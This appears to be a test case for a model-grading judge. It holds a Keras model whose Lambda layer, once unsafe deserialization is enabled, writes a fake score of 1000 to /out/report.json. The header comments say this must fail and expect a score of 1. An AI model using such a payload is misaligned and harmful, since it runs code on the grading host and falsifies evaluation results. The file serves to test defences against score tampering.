# tries: to run code in the judge by a Lambda layer, which carries its function as bytes
# must: never be made there; only the predictions count that the model gives, and they are poor
# quest: "model"
# score: 1
def evil(rows):
    import os

    with open("/out/report.json", "w") if os.path.isdir("/out") else open(os.devnull, "w") as file:
        file.write('{"score": 1000}')
    return rows[:, :4]


keras.config.enable_unsafe_deserialization()
model = keras.Sequential(
    [keras.Input((16,)), keras.layers.Lambda(evil, output_shape=(4,)), keras.layers.Dense(4, activation="softmax")]
)
model.compile("rmsprop", "sparse_categorical_crossentropy")
